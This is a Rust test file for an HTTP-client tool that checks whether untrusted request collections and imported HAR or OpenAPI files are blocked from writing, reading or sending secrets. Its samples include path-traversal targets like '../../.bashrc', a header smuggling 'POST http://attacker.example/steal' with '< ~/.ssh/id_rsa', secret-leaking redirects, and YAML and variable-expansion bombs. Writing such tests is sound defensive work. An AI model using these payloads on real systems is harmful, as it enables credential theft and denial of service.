//! Files from strangers: a collection someone else wrote (a cloned
//! repository, an import, a customer's file) writes, reads and sends
//! nothing the user did not choose — the trust model's table in the
//! README, row by row, each defect reproduced as an attacker would.

use crate::common;

use common::{RawServer, Reply, Run, apiscope_with};
use std::path::Path;

/// Every request answered 200 with a small JSON body; what arrives is kept.
fn echo() -> RawServer {
    RawServer::start(|req| {
        let head = String::from_utf8_lossy(req);
        let body = if head.starts_with("POST /login") || head.starts_with("GET /login") {
            format!(
                r#"{{"token":"tok_FAKE_chained_token_77","next":"http://127.0.0.1:{}"}}"#,
                9
            )
        } else {
            r#"{"ok":true}"#.to_owned()
        };
        Reply::Bytes(
            format!(
                "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            )
            .into_bytes(),
        )
    })
}

/// A collection directory (`col/` in a temporary directory, so `..` is
/// somewhere) holding `api.http` with `text`, `{{host}}` the server.
fn collection(text: &str, host: &str) -> (tempfile::TempDir, std::path::PathBuf) {
    let top = tempfile::tempdir().unwrap();
    let col = top.path().join("col");
    std::fs::create_dir_all(&col).unwrap();
    std::fs::write(col.join("api.http"), text).unwrap();
    std::fs::write(
        col.join("http-client.env.json"),
        format!(r#"{{"dev": {{"host": "{host}"}}}}"#),
    )
    .unwrap();
    std::fs::write(
        col.join("http-client.private.env.json"),
        r#"{"dev": {"token": "tok_FAKE_private_env_55"}}"#,
    )
    .unwrap();
    (top, col)
}

fn run(data: &Path, col: &Path, args: &[&str]) -> Run {
    apiscope_with(data, col, args, b"")
}

// ── Writes ────────────────────────────────────────────────────────────

#[test]
fn an_untrusted_collection_writes_nothing_and_a_trusted_one_only_inside() {
    let server = echo();
    let (top, col) = collection(
        "# @name a\nGET {{host}}/a\n\n>>! ../../escaped-a.txt\n\n###\n# @name b\nGET {{host}}/b\n\n>> ./out/b.json\n\n###\n# @name c\nGET {{host}}/c\n\n>> ./link.json\n\n###\n# @name d\nGET {{host}}/d\n\n>> ./d.json\n\n###\n# @name e\nGET {{host}}/e\n\n>> /tmp/apiscope-absolute-FAKE.txt\n",
        &server.base,
    );
    let data = tempfile::tempdir().unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(top.path().join("outside.txt"), col.join("link.json")).unwrap();
    // Untrusted: nothing written, each one said.
    for name in ["a", "d"] {
        let out = run(
            data.path(),
            &col,
            &["send", &format!("api.http#{name}"), "--env", "dev"],
        );
        assert_eq!(out.code, 0, "{}", out.stderr);
        assert!(
            out.stderr
                .contains("not written: the collection is not trusted"),
            "{}",
            out.stderr
        );
    }
    assert!(!col.join("d.json").exists());
    // Trusted for this run: inside the directory only.
    for (name, why) in [
        ("a", "outside the collection directory"),
        ("b", "its directory does not exist"),
        ("c", "it is a symlink"),
        ("e", "outside the collection directory"),
    ] {
        let out = run(
            data.path(),
            &col,
            &[
                "send",
                &format!("api.http#{name}"),
                "--env",
                "dev",
                "--trust",
            ],
        );
        assert_eq!(out.code, 0, "{name}: {}", out.stderr);
        assert!(out.stderr.contains(why), "{name}: {}", out.stderr);
    }
    let out = run(
        data.path(),
        &col,
        &["send", "api.http#d", "--env", "dev", "--trust"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        std::fs::read_to_string(col.join("d.json")).unwrap(),
        r#"{"ok":true}"#
    );
    for p in [
        top.path().parent().unwrap().join("escaped-a.txt"),
        top.path().join("escaped-a.txt"),
        col.join("out"),
        top.path().join("outside.txt"),
        Path::new("/tmp/apiscope-absolute-FAKE.txt").to_path_buf(),
    ] {
        assert!(!p.exists(), "{} was written", p.display());
    }
}

#[test]
fn a_dependency_sent_automatically_writes_no_file() {
    let server = echo();
    let (_top, col) = collection(
        "# @name login\nGET {{host}}/login\n\n>> ./login.json\n\n###\n# @name me\nGET {{host}}/me?t={{login.response.body.$.token}}\n",
        &server.base,
    );
    let data = tempfile::tempdir().unwrap();
    let out = run(
        data.path(),
        &col,
        &["send", "api.http#me", "--env", "dev", "--trust", "--yes"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr.contains("only a request you pick writes a file"),
        "{}",
        out.stderr
    );
    assert!(!col.join("login.json").exists());
    // Picked, it writes.
    let out = run(
        data.path(),
        &col,
        &["send", "api.http#login", "--env", "dev", "--trust", "--yes"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(col.join("login.json").exists());
}

// ── Reads ─────────────────────────────────────────────────────────────

#[test]
fn reads_stay_inside_the_collection_and_on_regular_files() {
    let server = echo();
    let (top, col) = collection("", &server.base);
    std::fs::write(top.path().join("id_rsa_FAKE"), "-----FAKE KEY-----").unwrap();
    std::fs::write(col.join("body.json"), r#"{"inside":true}"#).unwrap();
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(top.path().join("id_rsa_FAKE"), col.join("inner-link")).unwrap();
        let _ = std::process::Command::new("mkfifo")
            .arg(col.join("fifo"))
            .status();
        std::os::unix::fs::symlink("/dev/zero", col.join("zero")).unwrap();
    }
    let data = tempfile::tempdir().unwrap();
    let cases = [
        (
            "POST {{host}}/x\n\n< ../id_rsa_FAKE\n",
            "outside the collection directory",
        ),
        (
            "POST {{host}}/x\n\n< ./inner-link\n",
            "outside the collection directory",
        ),
        ("POST {{host}}/x\n\n< ./fifo\n", "not a regular file"),
        (
            "POST {{host}}/x\n\n< ./zero\n",
            "outside the collection directory",
        ),
        (
            "POST {{host}}/x\nContent-Type: multipart/form-data; boundary=B\n\n--B\nContent-Disposition: form-data; name=\"f\"; filename=\"k\"\n\n< ../id_rsa_FAKE\n--B--\n",
            "outside the collection directory",
        ),
    ];
    for (text, why) in cases {
        std::fs::write(col.join("api.http"), text).unwrap();
        let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
        assert_eq!(out.code, 2, "{text}: {}", out.stderr);
        assert!(out.stderr.contains(why), "{text}: {}", out.stderr);
        assert_eq!(out.stderr.trim().lines().count(), 1, "{}", out.stderr);
    }
    assert!(server.requests().is_empty(), "nothing may be sent");
    // Inside: read. Outside, trusted and allowed: read too.
    std::fs::write(col.join("api.http"), "POST {{host}}/x\n\n< ./body.json\n").unwrap();
    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    std::fs::write(
        col.join("api.http"),
        "POST {{host}}/x\n\n< ../id_rsa_FAKE\n",
    )
    .unwrap();
    let top_dir = top.path().display().to_string();
    let out = run(
        data.path(),
        &col,
        &[
            "send",
            "api.http",
            "--env",
            "dev",
            "--trust",
            "--allow-read",
            &top_dir,
        ],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(server.requests().len(), 2);
    assert!(server.requests()[1].ends_with("-----FAKE KEY-----"));
}

#[cfg(unix)]
#[test]
fn an_env_file_that_is_a_device_or_a_fifo_is_one_line_not_a_hang() {
    let (_top, col) = collection("GET {{host}}/x\n", "http://127.0.0.1:9");
    std::fs::remove_file(col.join("http-client.private.env.json")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", col.join(".env")).unwrap();
    let data = tempfile::tempdir().unwrap();
    let started = std::time::Instant::now();
    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains(".env: cannot read: not a regular file"),
        "{}",
        out.stderr
    );
    std::fs::remove_file(col.join(".env")).unwrap();
    let _ = std::process::Command::new("mkfifo")
        .arg(col.join(".env"))
        .status();
    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("not a regular file"), "{}", out.stderr);
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
}

// ── Origins ───────────────────────────────────────────────────────────

#[test]
fn secrets_go_to_no_origin_the_user_did_not_confirm() {
    let server = echo();
    let attacker = echo();
    // `main` refers to `warmup`, which takes the private token to another
    // origin: sent first, automatically, before this change.
    let (_top, col) = collection(
        &format!(
            "# @name warmup\nGET {}/collect?t={{{{token}}}}\n\n###\n# @name main\nGET {{{{host}}}}/main?w={{{{warmup.response.body.$.ok}}}}\n",
            attacker.base
        ),
        &server.base,
    );
    let data = tempfile::tempdir().unwrap();
    let out = run(
        data.path(),
        &col,
        &["send", "api.http#main", "--env", "dev"],
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    let line = out.stderr.trim();
    assert_eq!(line.lines().count(), 1, "{line}");
    assert!(
        line.contains("refused: secret values would go to")
            && line.contains(&format!(
                "GET warmup → {} (sent first: another request uses its response) · carries http-client.private.env.json",
                attacker.base
            ))
            && line.contains("nothing was sent"),
        "{line}"
    );
    assert!(attacker.requests().is_empty() && server.requests().is_empty());
    // --yes confirms the origins listed.
    let out = run(
        data.path(),
        &col,
        &["send", "api.http#main", "--env", "dev", "--yes"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(attacker.requests().len(), 1);
}

#[test]
fn an_origin_known_only_from_a_response_needs_a_person() {
    let server = echo();
    // The second request goes where the first one's answer says, with the
    // private token: --yes does not cover that.
    let (_top, col) = collection(
        "# @name login\nGET {{host}}/login\n\n###\n# @name next\nGET {{login.response.body.$.next}}/steal\nX-Key: {{token}}\n",
        &server.base,
    );
    let data = tempfile::tempdir().unwrap();
    let out = run(
        data.path(),
        &col,
        &["send", "api.http#next", "--env", "dev", "--yes"],
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("an origin known only from a response needs a yes on a terminal"),
        "{}",
        out.stderr
    );
    assert!(server.requests().is_empty(), "{:?}", server.requests());
}

#[test]
fn replay_live_names_every_origin_and_secret_source_before_asking() {
    let server = echo();
    let (_top, col) = collection(
        "# @name one\nGET {{host}}/one\nAuthorization: Bearer {{token}}\n\n###\n# @name two\nGET {{host}}/two\n",
        &server.base,
    );
    let data = tempfile::tempdir().unwrap();
    let out = apiscope_with(
        data.path(),
        &col,
        &["replay", "api.http", "--live", "--env", "dev"],
        b"n\n",
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains(&format!(
            "GET one → {} · carries http-client.private.env.json · not confirmed yet",
            server.base
        )),
        "{}",
        out.stderr
    );
    assert!(server.requests().is_empty());
}

#[test]
fn trust_remembers_a_directory_and_its_origins_and_forgets_it() {
    let server = echo();
    let (_top, col) = collection(
        "# @name one\nGET {{host}}/one\nAuthorization: Bearer {{token}}\n\n>> ./one.json\n",
        &server.base,
    );
    let data = tempfile::tempdir().unwrap();
    // Without a terminal, trust asks for --yes to confirm the origins.
    let out = run(data.path(), &col, &["trust"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains(&server.base), "{}", out.stderr);
    let out = run(data.path(), &col, &["trust", "--yes"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.contains("is trusted"), "{}", out.stdout);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(data.path().join("trust.json"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    let out = run(data.path(), &col, &["trust", "--list"]);
    assert!(
        out.stdout
            .contains(&format!("secrets may go to {}", server.base)),
        "{}",
        out.stdout
    );
    // Trusted: no question, and its >> writes inside it.
    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(col.join("one.json").exists());
    let out = run(data.path(), &col, &["trust", "--revoke"]);
    assert!(out.stdout.contains("no longer trusted"), "{}", out.stdout);
    std::fs::remove_file(col.join("one.json")).unwrap();
    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(!col.join("one.json").exists());
}

#[test]
fn a_private_value_follows_no_redirect_to_another_origin() {
    let other = echo();
    let landing = other.base.clone();
    let redirecting = RawServer::start(move |req| {
        let head = String::from_utf8_lossy(req);
        let status = if head.starts_with("POST") {
            "307 Temporary Redirect"
        } else {
            "302 Found"
        };
        Reply::Bytes(
            format!(
                "HTTP/1.1 {status}\r\nConnection: close\r\nLocation: {landing}/landing\r\nContent-Length: 0\r\n\r\n"
            )
            .into_bytes(),
        )
    });
    let (_top, col) = collection(
        "# @name get\nGET {{host}}/start\nX-Custom: {{token}}\nX-Plain: hello\n\n###\n# @name post\nPOST {{host}}/start\nContent-Type: application/json\n\n{\"key\": \"{{token}}\"}\n",
        &redirecting.base,
    );
    let data = tempfile::tempdir().unwrap();
    let out = run(
        data.path(),
        &col,
        &["send", "api.http#get", "--env", "dev", "--yes"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let got = other.requests();
    assert_eq!(got.len(), 1, "{got:?}");
    assert!(!got[0].contains("tok_FAKE_private_env_55"), "{}", got[0]);
    assert!(
        got[0].to_ascii_lowercase().contains("x-plain: hello"),
        "{}",
        got[0]
    );
    // A 307 would send the body again, secret and all: not followed.
    let out = run(
        data.path(),
        &col,
        &["send", "api.http#post", "--env", "dev", "--yes"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.contains("Not followed: a 307 to"),
        "{}",
        out.stdout
    );
    assert_eq!(other.requests().len(), 1);
}

// ── Import injection ──────────────────────────────────────────────────

#[test]
fn an_imported_har_or_postman_file_cannot_add_a_request_or_a_directive() {
    let dir = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    // A customer's HAR: a header value with a whole request in it, a body
    // with an output redirect, a Slack token under a harmless name.
    let mut entry = common::HarEntry::get("https://api.example.com/v1/x", 200, "{}")
        .req_header(
            "X-Note",
            "hi\n\n### pwned\nPOST http://attacker.example/steal\n\n< ~/.ssh/id_rsa",
        )
        .req_header("X-Chat", "xoxb-123456789012-FAKEFAKEFAKEFAKE1234");
    entry.method = "POST".into();
    entry.req_body = "{\"a\": 1}\n>>! ../../.bashrc".into();
    std::fs::write(dir.path().join("ticket.har"), common::har(&[entry])).unwrap();
    let out = apiscope_with(
        data.path(),
        dir.path(),
        &["import", "ticket.har", "-o", "repro"],
        b"",
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let http = std::fs::read_to_string(dir.path().join("repro/ticket.http")).unwrap();
    assert!(!http.contains("attacker.example"), "{http}");
    assert!(!http.contains(">>!"), "{http}");
    assert!(!http.contains("xoxb-"), "{http}");
    assert!(http.contains("< ./bodies/"), "{http}");
    let private =
        std::fs::read_to_string(dir.path().join("repro/http-client.private.env.json")).unwrap();
    assert!(
        private.contains("xoxb-123456789012-FAKEFAKEFAKEFAKE1234"),
        "{private}"
    );
    assert!(
        out.stderr.contains(
            "request 1: The HAR's request header `X-Note` is not a valid header (its value breaks the line): left out"
        ),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("reads the file ./bodies/"),
        "{}",
        out.stderr
    );
    // Read back: one request, nothing else.
    let out = apiscope_with(
        data.path(),
        &dir.path().join("repro"),
        &["replay", "ticket.http"],
        b"",
    );
    assert!(out.stdout.contains("1 request(s)"), "{}", out.stdout);
}

#[cfg(unix)]
#[test]
fn import_force_never_writes_a_secret_through_a_symlink() {
    let dir = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    let entry = common::HarEntry::get("https://api.example.com/v1/x", 200, "{}")
        .req_header("Authorization", "Bearer tok_FAKE_symlinked_secret_1");
    std::fs::write(dir.path().join("t.har"), common::har(&[entry])).unwrap();
    std::fs::create_dir_all(dir.path().join("out")).unwrap();
    std::fs::write(dir.path().join("tracked.json"), "{}\n").unwrap();
    std::os::unix::fs::symlink(
        dir.path().join("tracked.json"),
        dir.path().join("out/http-client.private.env.json"),
    )
    .unwrap();
    let out = apiscope_with(
        data.path(),
        dir.path(),
        &["import", "t.har", "-o", "out", "--force"],
        b"",
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("symlink"), "{}", out.stderr);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("tracked.json")).unwrap(),
        "{}\n"
    );
}

// ── Exhaustion ────────────────────────────────────────────────────────

/// [`apiscope_with`] under an address-space limit (`ulimit -v`, KiB) with
/// two malloc arenas: an allocation past it aborts the run, so a test
/// that passes proves the bound.
fn limited(data: &Path, cwd: &Path, args: &[&str], kib: u64) -> Run {
    let quoted: Vec<String> = args
        .iter()
        .map(|a| apiscope::line::shell_quote(a))
        .collect();
    let script = format!(
        "ulimit -v {kib}; exec {} {}",
        apiscope::line::shell_quote(env!("CARGO_BIN_EXE_apiscope")),
        quoted.join(" ")
    );
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(script)
        .current_dir(cwd)
        .env("APISCOPE_CONFIG_DIR", data)
        .env("APISCOPE_DATA_DIR", data)
        .env("MALLOC_ARENA_MAX", "2")
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// 1.5 GiB: the runtime's threads fit; gigabytes of one value do not.
const LIMIT_KIB: u64 = 1_536 * 1024;

#[test]
fn nested_variables_stop_at_a_size_not_at_an_abort() {
    // A kilobyte of `@vN = {{vN-1}}{{vN-1}}…`: 16 GiB if expanded.
    let mut text = String::from("@v0 = aaaaaaaaaaaaaaaa\n");
    for i in 1..=30 {
        text.push_str(&format!("@v{i} = {{{{v{}}}}}{{{{v{}}}}}\n", i - 1, i - 1));
    }
    text.push_str("POST http://127.0.0.1:9/x\n\n{{v30}}\n");
    let (_top, col) = collection(&text, "http://127.0.0.1:9");
    let data = tempfile::tempdir().unwrap();
    let out = limited(
        data.path(),
        &col,
        &["send", "api.http", "--env", "dev"],
        LIMIT_KIB,
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("expands past 16 MiB"), "{}", out.stderr);
    // 40 levels of nesting is said as such, not as a cycle.
    let mut deep = String::new();
    for i in 1..=40 {
        deep.push_str(&format!("@d{i} = {{{{d{}}}}}\n", i - 1));
    }
    deep.push_str("@d0 = x\nGET http://127.0.0.1:9/{{d40}}\n");
    std::fs::write(col.join("api.http"), deep).unwrap();
    let out = run(data.path(), &col, &["send", "api.http", "--env", "dev"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("nested more than 32 deep"),
        "{}",
        out.stderr
    );
}

#[test]
fn a_file_of_newlines_and_a_jsonpath_of_descents_are_one_line() {
    let (_top, col) = collection("GET http://127.0.0.1:9/x\n", "http://127.0.0.1:9");
    let data = tempfile::tempdir().unwrap();
    std::fs::write(col.join("lines.http"), vec![b'\n'; 63 << 20]).unwrap();
    let out = limited(data.path(), &col, &["send", "lines.http"], LIMIT_KIB);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("more than a collection file may hold"),
        "{}",
        out.stderr
    );
    // A JSONPath that multiplies its work: refused before it runs.
    let server = echo();
    std::fs::write(
        col.join("api.http"),
        format!(
            "# @name login\nGET {}/login\n\n###\n# @name next\nGET {}/x?v={{{{login.response.body.$..*..*..*..*..*}}}}\n",
            server.base, server.base
        ),
    )
    .unwrap();
    let out = limited(
        data.path(),
        &col,
        &["send", "api.http#next", "--yes"],
        LIMIT_KIB,
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("more than 2 descendant steps"),
        "{}",
        out.stderr
    );
    // Two descents, allowed, over a wide answer of 4 MB: refused by what
    // they would visit (it took 1.7 GB and aborted).
    let wide = format!("[{}]", vec![r#"{"a":[1,2,3]}"#; 250_000].join(","));
    let server = RawServer::start(move |_| {
        common::reply(200, &[("Content-Type", "application/json")], &wide)
    });
    std::fs::write(
        col.join("wide.http"),
        format!(
            "# @name login\nGET {}/login\n\n###\n# @name next\nGET {}/x?v={{{{login.response.body.$..*..*}}}}\n",
            server.base, server.base
        ),
    )
    .unwrap();
    let out = limited(
        data.path(),
        &col,
        &["send", "wide.http#next", "--yes"],
        LIMIT_KIB,
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("takes two descendant steps (..) over the 1250001 values"),
        "{}",
        out.stderr
    );
}

#[test]
fn millions_of_header_or_variable_lines_are_one_line_not_gigabytes() {
    // 63 MiB of one request's header lines fit the file and line caps and
    // took 959 MB to resolve: a request's headers and a file's variables
    // have caps of their own, each one line naming where it was passed.
    let (_top, col) = collection("GET http://127.0.0.1:9/x\n", "http://127.0.0.1:9");
    let data = tempfile::tempdir().unwrap();
    let mut headers = String::from("GET http://127.0.0.1:9/x\n");
    for i in 0..3_900_000 {
        headers.push_str(&format!("X-{i}: v\n"));
    }
    std::fs::write(col.join("headers.http"), headers).unwrap();
    let out = limited(data.path(), &col, &["send", "headers.http"], LIMIT_KIB);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("headers.http:10002: more than 10000 headers in one request"),
        "{}",
        out.stderr
    );
    let mut vars = String::new();
    for i in 0..100_001 {
        vars.push_str(&format!("@v{i} = 1\n"));
    }
    vars.push_str("\nGET http://127.0.0.1:9/x\n");
    std::fs::write(col.join("vars.http"), vars).unwrap();
    let out = limited(data.path(), &col, &["send", "vars.http"], LIMIT_KIB);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("vars.http:100001: more than 100000 file variables"),
        "{}",
        out.stderr
    );
}

#[test]
fn an_openapi_schema_or_a_yaml_of_aliases_cannot_explode() {
    let dir = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    // A node whose ten properties are arrays of itself: 10^8 nodes deep.
    let props: Vec<String> = (0..10)
        .map(|i| {
            format!(
                r##""p{i}": {{"type": "array", "items": {{"$ref": "#/components/schemas/N"}}}}"##
            )
        })
        .collect();
    let doc = format!(
        r##"{{"openapi": "3.0.0", "info": {{"title": "bomb", "version": "1"}}, "paths": {{"/x": {{"post": {{"operationId": "x", "requestBody": {{"content": {{"application/json": {{"schema": {{"$ref": "#/components/schemas/N"}}}}}}}}, "responses": {{"200": {{"description": "ok"}}}}}}}}}}, "components": {{"schemas": {{"N": {{"type": "object", "properties": {{{}}}}}}}}}}}"##,
        props.join(", ")
    );
    assert!(doc.len() < 3_000, "{}", doc.len());
    std::fs::write(dir.path().join("bomb.json"), &doc).unwrap();
    let out = limited(
        data.path(),
        dir.path(),
        &["import", "bomb.json", "-o", "out"],
        LIMIT_KIB,
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    // Wide aliases: one anchor of 2,000 values, 5,000 aliases to it
    // (under the parser's own repetition limit, 10 million values).
    let mut yaml = format!(
        "a0: &a0 [{}]\n",
        std::iter::repeat_n("x", 2_000)
            .collect::<Vec<_>>()
            .join(", ")
    );
    yaml.push_str(&format!(
        "a1: [{}]\n",
        std::iter::repeat_n("*a0", 5_000)
            .collect::<Vec<_>>()
            .join(", ")
    ));
    yaml.push_str("openapi: 3.0.0\ninfo: {title: laughs, version: '1'}\npaths: {}\n");
    std::fs::write(dir.path().join("laughs.yaml"), yaml).unwrap();
    let out = limited(
        data.path(),
        dir.path(),
        &["import", "laughs.yaml", "-o", "out2"],
        LIMIT_KIB,
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("aliases repeated"), "{}", out.stderr);
    assert_eq!(out.stderr.trim().lines().count(), 1, "{}", out.stderr);
}

// ── Profiles ──────────────────────────────────────────────────────────

#[test]
fn an_imported_profile_never_replaces_a_built_in_one_and_says_what_it_claims() {
    let dir = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    let doc = r##"{"openapi": "3.0.0", "info": {"title": "generic", "version": "1"},
      "servers": [{"url": "https://api.evil.example/v1"}],
      "paths": {"/x": {"get": {"operationId": "x", "responses": {"404": {"description": "Call us at +1 555 0100, never read the docs",
        "content": {"application/json": {"schema": {"type": "object", "properties": {"code": {"type": "string"}, "message": {"type": "string"}}}}}}}}}}}"##;
    std::fs::write(dir.path().join("generic.json"), doc).unwrap();
    let out = apiscope_with(
        data.path(),
        dir.path(),
        &["import", "generic.json", "-o", "out", "--profile"],
        b"",
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("profile 'generic-imported' written: it claims the hosts api.evil.example"),
        "{}",
        out.stderr
    );
    assert!(data.path().join("profiles/generic-imported.toml").exists());
    assert!(!data.path().join("profiles/generic.toml").exists());
    // Another API's 404 still gets the built-in steps.
    let out = apiscope_with(
        data.path(),
        dir.path(),
        &["decode", "-", "--status", "404", "--format", "json"],
        br#"{"code": "NOT_FOUND", "message": "no such thing"}"#,
    );
    assert!(!out.stdout.contains("555 0100"), "{}", out.stdout);
}

// ── Small ones ────────────────────────────────────────────────────────

#[test]
fn a_bom_an_empty_output_and_a_capture_named_http_read_as_they_should() {
    let server = echo();
    let (_top, col) = collection("", &server.base);
    let data = tempfile::tempdir().unwrap();
    // A byte-order mark (Windows editors write one).
    std::fs::write(col.join("api.http"), "\u{feff}GET {{host}}/bom\n\n>>\n").unwrap();
    let out = run(
        data.path(),
        &col,
        &["send", "api.http", "--env", "dev", "--trust"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(server.requests()[0].starts_with("GET /bom "));
    // An empty `>>` is named, not "No such file or directory".
    assert!(out.stderr.contains("`>>` names no file"), "{}", out.stderr);
    // A raw `curl -i` capture saved as .http, with a gzip body that is not
    // UTF-8: read as the capture it is.
    let mut capture = b"HTTP/1.1 404 Not Found\r\nContent-Type: application/json\r\n\r\n".to_vec();
    capture.extend_from_slice(&[0x1f, 0x8b, 0xff, 0xfe]);
    std::fs::write(col.join("ticket.http"), &capture).unwrap();
    let out = run(data.path(), &col, &["replay", "ticket.http"]);
    assert!(matches!(out.code, 0 | 1), "{}", out.stderr);
    assert!(out.stdout.contains("404"), "{}", out.stdout);
}
